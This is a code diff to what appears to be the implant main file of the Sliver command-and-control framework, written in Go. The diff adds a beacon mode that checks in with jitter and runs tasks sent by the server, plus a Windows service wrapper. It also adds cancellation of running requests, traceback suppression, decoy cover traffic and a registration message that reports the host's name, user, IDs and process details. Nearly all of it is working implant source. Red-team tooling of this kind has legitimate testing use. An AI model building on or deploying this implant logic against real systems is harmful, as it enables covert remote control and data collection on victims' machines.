@@ -28,9 +28,19 @@ import (
 	"os"
 	"os/user"
 	"runtime"
+	"sync"
 
 	// {{if .Debug}}{{else}}
 	"io/ioutil"
+	"runtime/debug"
+	// {{end}}
+
+	// {{if .IsBeacon}}
+	"crypto/rand"
+	"encoding/hex"
+	"errors"
+	insecureRand "math/rand"
+	"time"
 	// {{end}}
 
 	"log"
@@ -52,34 +62,52 @@ import (
 
 // {{if .IsService}}
 
+// sliverService - Windows service wrapper, lets the SCM start and stop the implant
 type sliverService struct{}
 
+// Execute - Implements the svc.Handler interface, the implant runs in its own
+// goroutine while we report status back to the service control manager
 func (serv *sliverService) Execute(args []string, r <-chan svc.ChangeRequest, changes chan<- svc.Status) (ssec bool, errno uint32) {
-	const cmdsAccepted = svc.AcceptStop | svc.AcceptShutdown | svc.AcceptPauseAndContinue
+	const cmdsAccepted = svc.AcceptStop | svc.AcceptShutdown
+	changes <- svc.Status{State: svc.StartPending}
+	done := make(chan struct{})
+	go func() {
+		run()
+		close(done)
+	}()
 	changes <- svc.Status{State: svc.Running, Accepts: cmdsAccepted}
 	for {
 		select {
-		default:
-			connection := transports.StartConnectionLoop()
-			if connection == nil {
-				break
-			}
-			mainLoop(connection)
+		case <-done:
+			// The implant exited on its own (e.g. kill date, max errors)
+			return false, 0
 		case c := <-r:
 			switch c.Cmd {
 			case svc.Interrogate:
 				changes <- c.CurrentStatus
 			case svc.Stop, svc.Shutdown:
-				changes <- svc.Status{State: svc.Stopped, Accepts: cmdsAccepted}
-			case svc.Pause:
-				changes <- svc.Status{State: svc.Paused, Accepts: cmdsAccepted}
-			case svc.Continue:
-				changes <- svc.Status{State: svc.Running, Accepts: cmdsAccepted}
+				// {{if .Debug}}
+				log.Printf("Service stop requested")
+				// {{end}}
+				changes <- svc.Status{State: svc.StopPending}
+				return false, 0
 			default:
 			}
 		}
 	}
-	return
+}
+
+// runService - Hand control to the service control manager, returns false if the
+// process was not started by the SCM (i.e. it was executed directly)
+func runService() bool {
+	err := svc.Run(consts.SliverName, &sliverService{})
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("Not running as a service: %s", err)
+		// {{end}}
+		return false
+	}
+	return true
 }
 
 // {{end}}
@@ -128,6 +156,7 @@ func main() {
 	// {{else}}
 	log.SetFlags(0)
 	log.SetOutput(ioutil.Discard)
+	debug.SetTraceback("none") // Panics exit without a stack trace
 	// {{end}}
 
 	// {{if .Debug}}
@@ -136,8 +165,21 @@ func main() {
 
 	limits.ExecLimits() // Check to see if we should execute
 
+	// {{if .Network}}
+	go transports.CoverTraffic()
+	// {{end}}
+
 	// {{if .IsService}}
-	svc.Run(os.Args[1], &sliverService{})
+	if runService() {
+		return
+	}
+	// {{end}}
+	run()
+}
+
+func run() {
+	// {{if .IsBeacon}}
+	beaconMainLoop()
 	// {{else}}
 	for {
 		connection := transports.StartConnectionLoop()
@@ -149,6 +191,149 @@ func main() {
 	// {{end}}
 }
 
+// {{if .IsBeacon}}
+
+const beaconRecvTimeout = 60 * time.Second
+
+var beaconID = newBeaconID()
+
+func newBeaconID() string {
+	buf := make([]byte, 16)
+	rand.Read(buf)
+	return hex.EncodeToString(buf)
+}
+
+// beaconMainLoop - Instead of keeping a connection open, check in every
+// interval +/- jitter to run any queued tasks. Returns when the connection
+// loop gives up.
+func beaconMainLoop() {
+	insecureRand.Seed(time.Now().UnixNano())
+	for {
+		sleep := transports.GetBeaconSleep()
+		connection := transports.StartConnectionLoop()
+		if connection == nil {
+			return
+		}
+		beaconCheckin(connection, time.Now().Add(sleep))
+		connection.Cleanup()
+
+		// {{if .Debug}}
+		log.Printf("[beacon] Sleep %s ...", sleep)
+		// {{end}}
+		transports.Sleep(sleep)
+	}
+}
+
+// beaconCheckin - Register and run tasks until the server has none left
+func beaconCheckin(connection *transports.Connection, nextCheckin time.Time) {
+	data, err := proto.Marshal(&sliverpb.BeaconRegister{
+		ID:          beaconID,
+		Interval:    int64(transports.GetBeaconInterval() / time.Second),
+		Jitter:      int64(transports.GetBeaconJitter() / time.Second),
+		NextCheckin: nextCheckin.Unix(),
+		Register:    getRegister(),
+	})
+	if err != nil {
+		return
+	}
+	envelope := &sliverpb.Envelope{Type: sliverpb.MsgBeaconRegister, Data: data}
+	for beaconSend(connection, envelope) {
+		tasks := beaconRecvTasks(connection)
+		if len(tasks) == 0 {
+			return
+		}
+		// {{if .Debug}}
+		log.Printf("[beacon] Running %d task(s)", len(tasks))
+		// {{end}}
+		data, _ := proto.Marshal(&sliverpb.BeaconTasks{
+			ID:    beaconID,
+			Tasks: runBeaconTasks(tasks, connection),
+		})
+		envelope = &sliverpb.Envelope{Type: sliverpb.MsgBeaconTasks, Data: data}
+	}
+}
+
+func beaconRecvTasks(connection *transports.Connection) []*sliverpb.Envelope {
+	timeout := time.After(beaconRecvTimeout)
+	for {
+		select {
+		case envelope, ok := <-connection.Recv:
+			if !ok {
+				return nil
+			}
+			if envelope.Type != sliverpb.MsgBeaconTasks {
+				continue
+			}
+			tasks := &sliverpb.BeaconTasks{}
+			err := proto.Unmarshal(envelope.Data, tasks)
+			if err != nil {
+				return nil
+			}
+			return tasks.Tasks
+		case <-timeout:
+			// {{if .Debug}}
+			log.Printf("[beacon] Timeout waiting for tasks")
+			// {{end}}
+			return nil
+		}
+	}
+}
+
+// beaconSend - Returns false if the connection was closed
+func beaconSend(connection *transports.Connection, envelope *sliverpb.Envelope) (sent bool) {
+	defer func() {
+		if recover() != nil {
+			sent = false // Send on closed channel
+		}
+	}()
+	connection.Send <- envelope
+	return true
+}
+
+// runBeaconTasks - Run the tasks concurrently like the session main loop
+// does, but wait for all of the results
+func runBeaconTasks(tasks []*sliverpb.Envelope, connection *transports.Connection) []*sliverpb.Envelope {
+	sysHandlers := handlers.GetSystemHandlers()
+	specialHandlers := handlers.GetSpecialHandlers()
+	results := make([]*sliverpb.Envelope, len(tasks))
+	wg := &sync.WaitGroup{}
+	for index, task := range tasks {
+		if handler, ok := sysHandlers[task.Type]; ok {
+			wg.Add(1)
+			go func(index int, task *sliverpb.Envelope, handler handlers.RPCHandler) {
+				defer wg.Done()
+				// Only the first response counts, handlers that return without
+				// responding get an error result
+				once := &sync.Once{}
+				defer once.Do(func() {
+					results[index] = &sliverpb.Envelope{ID: task.ID, Err: "Task did not return a result"}
+				})
+				handler(task.Data, func(data []byte, err error) {
+					once.Do(func() {
+						results[index] = &sliverpb.Envelope{ID: task.ID, Data: data, BandwidthLimit: task.BandwidthLimit}
+					})
+				})
+			}(index, task, handler)
+		} else if handler, ok := specialHandlers[task.Type]; ok {
+			// Special handlers don't respond, they only return if they failed
+			err := handler(task.Data, connection)
+			if err == nil {
+				err = errors.New("Task did not return a result")
+			}
+			results[index] = &sliverpb.Envelope{ID: task.ID, Err: err.Error()}
+		} else {
+			// {{if .Debug}}
+			log.Printf("[beacon] unknown task type %d", task.Type)
+			// {{end}}
+			results[index] = &sliverpb.Envelope{ID: task.ID, UnknownMessageType: true}
+		}
+	}
+	wg.Wait()
+	return results
+}
+
+// {{end}}
+
 func mainLoop(connection *transports.Connection) {
 
 	connection.Send <- getRegisterSliver() // Send registration information
@@ -162,8 +347,18 @@ func mainLoop(connection *transports.Connection) {
 	sysPivotHandlers := handlers.GetSystemPivotHandlers()
 	specialHandlers := handlers.GetSpecialHandlers()
 
+	requests := &runningRequests{cancelled: map[uint64]bool{}}
+
 	for envelope := range connection.Recv {
-		if handler, ok := specialHandlers[envelope.Type]; ok {
+		if envelope.Type == sliverpb.MsgCancelReq {
+			cancelReq := &sliverpb.CancelReq{}
+			if proto.Unmarshal(envelope.Data, cancelReq) == nil {
+				// {{if .Debug}}
+				log.Printf("[recv] cancel envelope %d", cancelReq.EnvelopeID)
+				// {{end}}
+				requests.Cancel(cancelReq.EnvelopeID)
+			}
+		} else if handler, ok := specialHandlers[envelope.Type]; ok {
 			// {{if .Debug}}
 			log.Printf("[recv] specialHandler %d", envelope.Type)
 			// {{end}}
@@ -177,10 +372,18 @@ func mainLoop(connection *transports.Connection) {
 			// {{if .Debug}}
 			log.Printf("[recv] sysHandler %d", envelope.Type)
 			// {{end}}
+			requests.Start(envelope.ID)
 			go handler(envelope.Data, func(data []byte, err error) {
+				if requests.Done(envelope.ID) {
+					// {{if .Debug}}
+					log.Printf("[send] dropping result of cancelled envelope %d", envelope.ID)
+					// {{end}}
+					return
+				}
 				connection.Send <- &sliverpb.Envelope{
-					ID:   envelope.ID,
-					Data: data,
+					ID:             envelope.ID,
+					Data:           data,
+					BandwidthLimit: envelope.BandwidthLimit,
 				}
 			})
 		} else if handler, ok := tunHandlers[envelope.Type]; ok {
@@ -206,7 +409,52 @@ func mainLoop(connection *transports.Connection) {
 	}
 }
 
+// runningRequests - Requests the server may still cancel, handlers can't be
+// interrupted so a cancelled request runs to completion and its result is dropped
+type runningRequests struct {
+	mutex     sync.Mutex
+	cancelled map[uint64]bool
+}
+
+func (r *runningRequests) Start(envelopeID uint64) {
+	r.mutex.Lock()
+	defer r.mutex.Unlock()
+	r.cancelled[envelopeID] = false
+}
+
+// Cancel - Ignored for requests that already completed
+func (r *runningRequests) Cancel(envelopeID uint64) {
+	r.mutex.Lock()
+	defer r.mutex.Unlock()
+	if _, ok := r.cancelled[envelopeID]; ok {
+		r.cancelled[envelopeID] = true
+	}
+}
+
+// Done - Returns true if the request was cancelled
+func (r *runningRequests) Done(envelopeID uint64) bool {
+	r.mutex.Lock()
+	defer r.mutex.Unlock()
+	cancelled := r.cancelled[envelopeID]
+	delete(r.cancelled, envelopeID)
+	return cancelled
+}
+
 func getRegisterSliver() *sliverpb.Envelope {
+	data, err := proto.Marshal(getRegister())
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("Failed to encode register msg %s", err)
+		// {{end}}
+		return nil
+	}
+	return &sliverpb.Envelope{
+		Type: sliverpb.MsgRegister,
+		Data: data,
+	}
+}
+
+func getRegister() *sliverpb.Register {
 	hostname, err := os.Hostname()
 	if err != nil {
 		// {{if .Debug}}
@@ -239,27 +487,18 @@ func getRegisterSliver() *sliverpb.Envelope {
 			filename = "<< error >>"
 		}
 	}
-	data, err := proto.Marshal(&sliverpb.Register{
-		Name:     consts.SliverName,
-		Hostname: hostname,
-		Username: currentUser.Username,
-		Uid:      currentUser.Uid,
-		Gid:      currentUser.Gid,
-		Os:       runtime.GOOS,
-		Version:  version.GetVersion(),
-		Arch:     runtime.GOARCH,
-		Pid:      int32(os.Getpid()),
-		Filename: filename,
-		ActiveC2: transports.GetActiveC2(),
-	})
-	if err != nil {
-		// {{if .Debug}}
-		log.Printf("Failed to encode register msg %s", err)
-		// {{end}}
-		return nil
-	}
-	return &sliverpb.Envelope{
-		Type: sliverpb.MsgRegister,
-		Data: data,
+	return &sliverpb.Register{
+		Name:            consts.SliverName,
+		Hostname:        hostname,
+		Username:        currentUser.Username,
+		Uid:             currentUser.Uid,
+		Gid:             currentUser.Gid,
+		Os:              runtime.GOOS,
+		Version:         version.GetVersion(),
+		Arch:            runtime.GOARCH,
+		Pid:             int32(os.Getpid()),
+		Filename:        filename,
+		ActiveC2:        transports.GetActiveC2(),
+		ProtocolVersion: sliverpb.ProtocolVersion,
 	}
 }